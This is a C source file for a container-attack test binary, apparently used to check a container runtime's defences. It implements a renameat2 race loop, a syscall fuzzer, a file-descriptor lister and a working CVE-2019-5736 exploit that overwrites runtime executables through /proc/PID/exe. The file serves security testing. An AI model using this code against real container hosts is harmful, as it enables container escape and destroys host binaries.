// What hostile programs in containers do that a shell is too slow for, or cannot: `attack VERB …`. Static, so that it runs anywhere.

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

enum { EXCHANGE = 2, LAST_CALL = 462, MAX_SEEN = 4096 };

/** swap A B: each takes the other's place, as fast as it goes, for ever. */
static void swap(const char *one, const char *other)
{
    for (;;) syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, EXCHANGE);
}

static void be_called(long number)
{
    alarm(2);
    errno = 0;
    long result = syscall(number, -1L, -1L, -1L, -1L, -1L, -1L);
    _exit(result == -1 ? errno : 0);
}

/** They return to nowhere, wait for ever, or (sync) take long. */
static int is_spared(long number)
{
    static const long spared[] = {SYS_rt_sigreturn, SYS_exit, SYS_exit_group, SYS_rt_sigsuspend, SYS_sync,
#ifdef SYS_fork
                                  SYS_pause,        SYS_fork, SYS_vfork,
#endif
                                  SYS_clone};
    for (size_t i = 0; i < sizeof spared / sizeof *spared; i++)
        if (spared[i] == number) return 1;
    return 0;
}

/** calls: `NUMBER ERRNO` for every system call with arguments that make no sense; 0 where it did something, -SIGNAL where it was killed. */
static int calls(void)
{
    for (long number = 0; number <= LAST_CALL; number++) {
        if (is_spared(number)) continue;
        int status = 0;
        fflush(stdout);
        pid_t child = fork();
        if (child == 0) be_called(number);
        waitpid(child, &status, 0);
        printf("%ld %d\n", number, WIFSIGNALED(status) ? -WTERMSIG(status) : WEXITSTATUS(status));
    }
    return 0;
}

static int seen[MAX_SEEN], seen_count;

static int is_new(int pid)
{
    for (int i = 0; i < seen_count; i++)
        if (seen[i] == pid) return 0;
    return 1;
}

/** Writes over the program as soon as nothing runs it (CVE-2019-5736); says how it went. */
static void overwrite(const char *name, int fd)
{
    char path[64], line[PATH_MAX + 128];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int writable = -1, error = ETXTBSY;
    for (int i = 0; i < 2000 && error == ETXTBSY; i++) {
        writable = open(path, O_WRONLY);
        error = writable < 0 ? errno : 0;
        if (error == ETXTBSY) usleep(1000);
    }
    if (writable >= 0 && write(writable, "#!/owned\n", 9) != 9) error = errno;
    int size = snprintf(line, sizeof line, "caught %s: %s\n", name, error == 0 ? "OVERWRITTEN" : strerror(error));
    if (write(1, line, (size_t)size) < 0) _exit(1);
}

static void look_at(const char *pid, const char *own)
{
    char path[PATH_MAX], name[PATH_MAX];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    ssize_t size = readlink(path, name, sizeof name - 1);
    if (size <= 0) return;
    name[size] = '\0';
    if (strcmp(name, own) == 0 || strstr(name, "busybox") != NULL) return;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return;
    if (seen_count < MAX_SEEN) seen[seen_count++] = atoi(pid);
    if (fork() != 0) {
        close(fd);
        return;
    }
    overwrite(name, fd);
    _exit(0);
}

/** catch: takes every program that appears in the container and is not of it, and writes over it. */
static int catch(void)
{
    char own[PATH_MAX] = "";
    if (readlink("/proc/self/exe", own, sizeof own - 1) < 0) return 1;
    signal(SIGCHLD, SIG_IGN);
    if (write(1, "ready\n", 6) < 0) return 1;
    for (;;) {
        DIR *proc = opendir("/proc");
        if (proc == NULL) return 1;
        for (struct dirent *entry; (entry = readdir(proc)) != NULL;)
            if (isdigit((unsigned char)entry->d_name[0]) && is_new(atoi(entry->d_name))) look_at(entry->d_name, own);
        closedir(proc);
    }
}

/** fds: the numbers of what is open, and where it leads, without opening anything. */
static int fds(void)
{
    for (int fd = 0; fd < 256; fd++) {
        char path[64], name[PATH_MAX];
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t size = readlink(path, name, sizeof name - 1);
        if (size >= 0) printf("%d %.*s\n", fd, (int)size, name);
    }
    return 0;
}

int main(int argc, char **argv)
{
    const char *verb = argc > 1 ? argv[1] : "";
    if (strcmp(verb, "swap") == 0 && argc == 4) swap(argv[2], argv[3]);
    if (strcmp(verb, "calls") == 0) return calls();
    if (strcmp(verb, "catch") == 0) return catch();
    if (strcmp(verb, "fds") == 0) return fds();
    return 2;
}
